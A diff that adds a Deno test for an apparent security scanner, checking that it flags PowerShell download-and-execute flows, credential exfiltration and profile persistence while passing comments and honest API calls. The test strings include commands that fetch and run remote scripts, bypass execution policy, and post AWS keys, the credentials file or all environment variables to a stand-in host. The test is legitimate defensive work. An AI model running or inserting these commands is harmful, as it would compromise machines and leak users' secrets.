@@ -1581,6 +1581,69 @@ Deno.test("shell: a function of the script runs its body on what is piped to it,
   );
 });
 
+Deno.test("PowerShell: a download run and a secret sent by way of variables are flows; comments and honest requests are not", () => {
+  const url = "https://get.example.net/i.ps1";
+  assertRunsOnlyIn("Set-StrictMode -Version Latest\n", "ps1", [
+    `$code = Invoke-RestMethod ${url}\nInvoke-Expression $code\n`,
+    `$wc = New-Object Net.WebClient\n$s = $wc.DownloadString("${url}")\niex $s\n`,
+    `$r = (iwr ${url} -UseBasicParsing).Content\n& ([scriptblock]::Create($r))\n`,
+    `$s = irm ${url}\npwsh -NoProfile -Command $s\n`,
+    `$s = irm ${url}\n$s |\n  Invoke-Expression\n`,
+    `$s = irm ${url}\n$ExecutionContext.InvokeCommand.InvokeScript($s)\n`,
+    `$s = irm ${url}\nStart-Process powershell -ArgumentList "-NoProfile", "-Command", $s\n`,
+    `Invoke-WebRequest ${url} -OutFile setup.ps1\n& .\\setup.ps1\n`,
+    `iwr ${url} -OutFile $env:TEMP\\i.ps1\npowershell -ExecutionPolicy Bypass -File $env:TEMP\\i.ps1\n`,
+  ], [
+    "# $code = irm https://get.example.net/x; iex $code\n",
+    "<#\n iex (irm https://get.example.net/x)\n#>\nWrite-Host done\n",
+    '$code = "Write-Host hi"\nInvoke-Expression $code\n',
+    `$data = Invoke-RestMethod ${url}\n$data | ConvertTo-Json\n`,
+    `$r = irm ${url}\n($r).Count\n`,
+    `Invoke-WebRequest ${url} -OutFile data.json\nGet-Content data.json | ConvertFrom-Json\n`,
+  ]);
+  const ps = (text: string) => secretSeverities("scripts/s.ps1", text);
+  const post = "https://collect.example.org/x";
+  assert.deepEqual(
+    ps(`$k = $env:AWS_SECRET_ACCESS_KEY\nInvoke-RestMethod -Uri ${post} -Method Post -Body $k\n`),
+    ["critical"],
+  );
+  assert.deepEqual(
+    ps(
+      `$c = Get-Content "$env:USERPROFILE\\.aws\\credentials" -Raw\nInvoke-WebRequest -Uri ${post} -Method POST -Body $c\n`,
+    ),
+    ["critical"],
+  );
+  assert.deepEqual(
+    ps(
+      `$all = Get-ChildItem env: | Out-String\n(New-Object Net.WebClient).UploadString("${post}", $all)\n`,
+    ),
+    ["critical"],
+  );
+  // A hashtable's entries are one value; a key to its own API is the honest case.
+  assert.deepEqual(
+    ps(
+      '$h = @{ Authorization = "Bearer $env:OPENAI_API_KEY" }\nInvoke-RestMethod -Uri https://api.openai.com/v1/models -Headers $h\n',
+    ),
+    ["info"],
+  );
+  assert.deepEqual(
+    ps(
+      `$h = @{\n  Authorization = "Bearer $env:OPENAI_API_KEY"\n}\nInvoke-RestMethod -Uri ${post} -Headers $h\n`,
+    ),
+    ["critical"],
+  );
+  // Strings are skipped in one pass: 200 KB of quotes that never close (a backtracking match
+  // of each took ~25 s) read in milliseconds.
+  const started = performance.now();
+  assert.deepEqual(downloadRuns("scripts/q.ps1", '"a`'.repeat(66_000) + '@"x '.repeat(2_000)), []);
+  assert.ok(performance.now() - started < 2_000, `${performance.now() - started} ms`);
+  // Persistence: a write to the profile.
+  const persists = (text: string) =>
+    ruleAt(findings({ "scripts/p.ps1": text }), "persistence-write").map((f) => f.line);
+  assert.deepEqual(persists('$p = "Write-Host hi"\nAdd-Content -Path $PROFILE -Value $p\n'), [2]);
+  assert.deepEqual(persists("Add-Content -Path ./notes.txt -Value hi\n"), []);
+});
+
 Deno.test("shell: what printenv NAME and declare -p print is the variables they name or all of them", () => {
   const critical = (text: string) => secretSeverities("scripts/s.sh", `#!/bin/bash\n${text}`);
   assert.deepEqual(
